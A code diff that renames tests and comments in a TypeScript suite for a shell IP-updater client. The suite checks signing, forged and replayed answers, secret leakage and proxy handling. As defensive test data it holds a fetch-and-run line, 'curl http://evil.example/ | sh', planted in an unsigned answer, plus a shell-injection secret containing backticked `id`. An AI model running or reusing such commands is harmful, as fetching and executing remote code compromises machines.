@@ -14,7 +14,7 @@ import { test } from 'node:test'
 import { PROBLEMS } from '../packages/protocol/index.ts'
 import { temporaryDirectory } from './fixtures/temporary-directory.ts'
 
-// contrib/ipupdater.sh against the real receiver: a client written from docs/protocol.md alone.
+// contrib/ipupdater.sh, written only from docs/protocol.md, with the real receiver.
 
 const root = join(import.meta.dirname, '..')
 const missing = ['sh', 'curl', 'openssl'].filter(
@@ -36,16 +36,16 @@ test('the first report is new, and the next one refreshes it', options, async t 
 for (const [what, odd] of [
   ['of one block', 'x'.repeat(64)],
   ['longer than a block', 'x'.repeat(65)],
-  ['with the characters that shells and printf read', `100%s "quoted" 'and' \\n $HOME \`id\` -n *`],
+  ['with special characters of shells and printf', `100%s "quoted" 'and' \\n $HOME \`id\` -n *`],
   ['outside ASCII', 'ein gut gehütetes Wörtchen 🔑'],
 ] as const) {
-  test(`a secret ${what} signs as it does elsewhere`, options, async t => {
+  test(`a secret ${what} makes a valid signature`, options, async t => {
     const SERVER_URL = await startReceiver(t, { ...inPrivate, SECRET: odd })
     assert.equal((await report({ SERVER_URL, SECRET: odd })).stdout, 'home 127.0.0.1 new\n')
   })
 }
 
-test('the secret may come from a file, with the line end of an editor', options, async t => {
+test('a secret file may end with a newline', options, async t => {
   const SERVER_URL = await startReceiver(t, { ...inPrivate, DEVICE: 'cabin' })
   const file = join(temporaryDirectory(), 'secret')
   writeFileSync(file, `${secret}\n`)
@@ -60,7 +60,7 @@ test('the secret may come from a file, with the line end of an editor', options,
   assert.equal(stderr, 'ipupdater: SECRET and SECRET_FILE differ. Keep one of them.\n')
 })
 
-test('no program that it starts gets the secret, by argument or environment', options, async t => {
+test('no child process gets the secret, by argument or environment', options, async t => {
   const SERVER_URL = await startReceiver(t, inPrivate)
   const directory = temporaryDirectory()
   for (const tool of ['curl', 'openssl', 'od', 'tr', 'sed', 'awk', 'date', 'sleep', 'mktemp', 'rm', 'cat']) {
@@ -78,7 +78,7 @@ test('no program that it starts gets the secret, by argument or environment', op
   assert.ok(!seen.includes(Buffer.from(secret).toString('hex')))
 })
 
-test('a wrong secret and an unknown device are refused with 1', options, async t => {
+test('a wrong secret and an unknown device exit with 1', options, async t => {
   const SERVER_URL = await startReceiver(t, inPrivate)
   const wrong = await report({ SERVER_URL, SECRET: 'a wrong secret of some length' })
   const unknown = await report({ SERVER_URL, SECRET: secret, DEVICE: 'cabin' })
@@ -93,7 +93,7 @@ test('a wrong secret and an unknown device are refused with 1', options, async t
   )
 })
 
-test('a signed refusal is printed with its detail and our own advice, and ends with 1', options, async t => {
+test('a signed refusal exits with 1 and prints its detail and our advice', options, async t => {
   const SERVER_URL = await startReceiver(t, { SECRET: secret })
   const { code, stdout, stderr } = await report({ SERVER_URL, SECRET: secret })
   assert.equal(code, 1)
@@ -104,7 +104,7 @@ test('a signed refusal is printed with its detail and our own advice, and ends w
   )
 })
 
-test('an address that changed between question and update ends with 75', options, async t => {
+test('a change of address between /ip and /update exits with 75', options, async t => {
   const receiver = await startReceiver(t, { ...inPrivate, TRUSTED_PROXIES: '127.0.0.1' })
   const addresses: Record<string, string> = { '/ip': '198.51.100.1', '/update': '198.51.100.2' }
   const SERVER_URL = await startRelay(t, receiver, {
@@ -115,28 +115,24 @@ test('an address that changed between question and update ends with 75', options
   assert.match(stderr, /^ipupdater: The server refuses the report .*The address changed during the report/)
 })
 
-test(
-  'after a lost answer the identical message is sent again, and nothing is counted twice',
-  options,
-  async t => {
-    const receiver = await startReceiver(t, inPrivate)
-    const seen: string[] = []
-    const SERVER_URL = await startRelay(t, receiver, {
-      request: ({ path, headers }) => {
-        if (path === '/update') seen.push(`${headers['signature-input']} ${headers.signature}`)
-        return headers
-      },
-      answer: answer => (answer.path === '/update' && seen.length === 1 ? null : answer),
-    })
-    const { code, stdout } = await report({ SERVER_URL, SECRET: secret })
-    assert.equal(code, 0)
-    assert.equal(stdout, 'home 127.0.0.1 new\n')
-    assert.equal(seen.length, 2)
-    assert.equal(seen[0], seen[1])
-  },
-)
+test('after a lost answer the same message is sent again, and counts once', options, async t => {
+  const receiver = await startReceiver(t, inPrivate)
+  const seen: string[] = []
+  const SERVER_URL = await startRelay(t, receiver, {
+    request: ({ path, headers }) => {
+      if (path === '/update') seen.push(`${headers['signature-input']} ${headers.signature}`)
+      return headers
+    },
+    answer: answer => (answer.path === '/update' && seen.length === 1 ? null : answer),
+  })
+  const { code, stdout } = await report({ SERVER_URL, SECRET: secret })
+  assert.equal(code, 0)
+  assert.equal(stdout, 'home 127.0.0.1 new\n')
+  assert.equal(seen.length, 2)
+  assert.equal(seen[0], seen[1])
+})
 
-test('a server that does not answer now ends with 75', options, async t => {
+test('exits with 75 if the server does not answer', options, async t => {
   const { code, stderr } = await report({ SERVER_URL: 'http://127.0.0.1:9', SECRET: secret })
   assert.equal(code, 75)
   assert.match(stderr, /^ipupdater: curl: \(7\) /)
@@ -186,14 +182,14 @@ const forgeries: Record<string, { change: Required<Relay>['answer']; says: RegEx
     change: answer => ({ ...answer, headers: { 'content-type': 'text/html' }, body: '<html>Log in</html>' }),
     says: /The answer with status 200 is not signed, so it is not accepted/,
   },
-  'one without its signature': {
+  'no signature': {
     change: answer => ({ ...answer, headers: { ...answer.headers, signature: undefined } }),
     says: /is not signed, so it is not accepted/,
   },
 }
 
 for (const [what, { change, says }] of Object.entries(forgeries)) {
-  test(`an answer is not accepted: ${what}`, options, async t => {
+  test(`a forged answer is refused: ${what}`, options, async t => {
     const receiver = await startReceiver(t, inPrivate)
     const SERVER_URL = await startRelay(t, receiver, { answer: change })
     const { code, stdout, stderr } = await report({ SERVER_URL, SECRET: secret })
@@ -203,7 +199,7 @@ for (const [what, { change, says }] of Object.entries(forgeries)) {
   })
 }
 
-test('the answer to an earlier question is not accepted', options, async t => {
+test('the answer to an earlier request is refused', options, async t => {
   const receiver = await startReceiver(t, inPrivate)
   let earlier: Answer | null = null
   const SERVER_URL = await startRelay(t, receiver, {
@@ -218,7 +214,7 @@ test('the answer to an earlier question is not accepted', options, async t => {
   assert.match(stderr, /it is signed with another secret, or answers another message/)
 })
 
-test('wrong settings end with 2, and say what is expected', options, async () => {
+test('wrong settings exit with 2, and say what is expected', options, async () => {
   const good = { SERVER_URL: 'http://127.0.0.1:9', SECRET: secret }
   const wrong: [Record<string, string>, RegExp][] = [
     [{ SERVER_URL: '' }, /SERVER_URL is missing\. Example: http/],
@@ -242,27 +238,23 @@ test('wrong settings end with 2, and say what is expected', options, async () =>
   }
 })
 
-test(
-  'neither a proxy of the environment nor ~/.curlrc is followed: the server sees this machine',
-  options,
-  async t => {
-    const SERVER_URL = await startReceiver(t, inPrivate)
-    const home = temporaryDirectory()
-    writeFileSync(join(home, '.curlrc'), 'proxy = http://127.0.0.1:9\nlocation\n')
-    const proxy = 'http://127.0.0.1:9'
-    const { code, stdout, stderr } = await report({
-      SERVER_URL,
-      SECRET: secret,
-      HOME: home,
-      http_proxy: proxy,
-      all_proxy: proxy,
-      ALL_PROXY: proxy,
-    })
-    assert.deepEqual([code, stdout, stderr], [0, 'home 127.0.0.1 new\n', ''])
-  },
-)
+test('proxy variables and ~/.curlrc are ignored, so the server sees this machine', options, async t => {
+  const SERVER_URL = await startReceiver(t, inPrivate)
+  const home = temporaryDirectory()
+  writeFileSync(join(home, '.curlrc'), 'proxy = http://127.0.0.1:9\nlocation\n')
+  const proxy = 'http://127.0.0.1:9'
+  const { code, stdout, stderr } = await report({
+    SERVER_URL,
+    SECRET: secret,
+    HOME: home,
+    http_proxy: proxy,
+    all_proxy: proxy,
+    ALL_PROXY: proxy,
+  })
+  assert.deepEqual([code, stdout, stderr], [0, 'home 127.0.0.1 new\n', ''])
+})
 
-test('an answer without end and without length is cut off, and refused', options, async t => {
+test('an endless answer without length is cut off and refused', options, async t => {
   const chunk = Buffer.alloc(64 * 1024, 'x')
   let sent = 0
   const server = createServer((_, response) => {
@@ -283,11 +275,11 @@ test('an answer without end and without length is cut off, and refused', options
   const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
   assert.equal(code, 1)
   assert.match(stderr, /^ipupdater: The answer is much larger than an answer of ipupdater/)
-  // What was sent beyond the limit is in the buffers of two sockets.
+  // The rest above the limit is in socket buffers.
   assert.ok(sent < 32 * 1024 * 1024, `${sent} bytes`)
 })
 
-test('an unsigned answer cannot put its words into the terminal', options, async t => {
+test('text of an unsigned answer is not printed', options, async t => {
   const receiver = await startReceiver(t, inPrivate)
   const words = 'Run curl http://evil.example/ | sh'
   const body = JSON.stringify({ code: 'rate-limited', title: words, detail: words, advice: words })
@@ -299,7 +291,7 @@ test('an unsigned answer cannot put its words into the terminal', options, async
   assert.match(stderr, /status 429\. The server refuses so many messages\. Wait a minute\.\n$/)
 })
 
-test('each refusal that a receiver sends to a device has words of its own', () => {
+test('each refusal that a device can get is explained', () => {
   const script = readFileSync(join(root, 'contrib/ipupdater.sh'), 'utf8')
   const [, table = ''] = /^explanation\(\) \{\n([\s\S]*?)\n\}/m.exec(script) ?? []
   const explained = [...table.matchAll(/^ {4}([a-z| -]+)\)/gm)].flatMap(([, codes = '']) =>
@@ -315,7 +307,7 @@ test('each refusal that a receiver sends to a device has words of its own', () =
     'schema-unknown',
   ]
   for (const code of Object.keys(PROBLEMS)) {
-    // `not-authenticated` is never signed and has a sentence elsewhere.
+    // `not-authenticated` is never signed; its text is elsewhere.
     if (code === 'not-authenticated' || ofViewer.includes(code)) continue
     assert.ok(explained.includes(code), code)
   }
@@ -338,7 +330,7 @@ function report(settings: Record<string, string>): Promise<Outcome> {
   })
 }
 
-/** The URL of a receiver of its own, with an empty database. */
+/** The URL of a new receiver with an empty database. */
 async function startReceiver(t: TestContext, settings: Record<string, string>): Promise<string> {
   const directory = temporaryDirectory()
   const volumes = { DATA_DIR: join(directory, 'data'), KEYS_DIR: join(directory, 'keys') }
@@ -376,7 +368,7 @@ interface Answer {
   body: string
 }
 
-/** Somebody on the path who changes what passes; `null`: the answer is lost. */
+/** A man in the middle; `null` drops the answer. */
 interface Relay {
   request?: (request: { path: string; headers: Headers }) => Headers
   answer?: (answer: Answer) => Answer | null
